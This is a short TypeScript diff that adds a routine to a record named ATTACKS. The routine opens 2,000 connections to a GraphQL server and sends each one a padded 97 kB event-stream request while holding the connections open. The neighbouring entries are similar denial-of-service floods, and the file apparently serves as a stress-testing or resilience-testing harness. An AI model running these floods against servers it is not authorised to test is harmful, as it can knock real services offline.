@@ -107,6 +107,16 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
     await sleep(HOLD_MS);
     return '2,000 WebSockets, connection_init of 97 kB each';
   },
+  'long bodies of event streams': async (url) => {
+    const body = Buffer.from(JSON.stringify({ query: LEVELS, variables: { PADDING } }));
+    const lines = `${POST}Accept: text/event-stream\r\nContent-Length: ${body.length}\r\n\r\n`;
+    for (const socket of await openConnections(url, 2000)) {
+      socket.resume().write(Buffer.concat([Buffer.from(lines), body]));
+      await sleep(5);
+    }
+    await sleep(HOLD_MS);
+    return '2,000 event streams, each with a body of 97 kB';
+  },
   'requests behind event streams': async (url) => {
     const headers = Array.from({ length: 300 }, (_, n) => `h${n}: ${'x'.repeat(40)}`).join('\r\n');
     const sockets = await openConnections(url, 400);
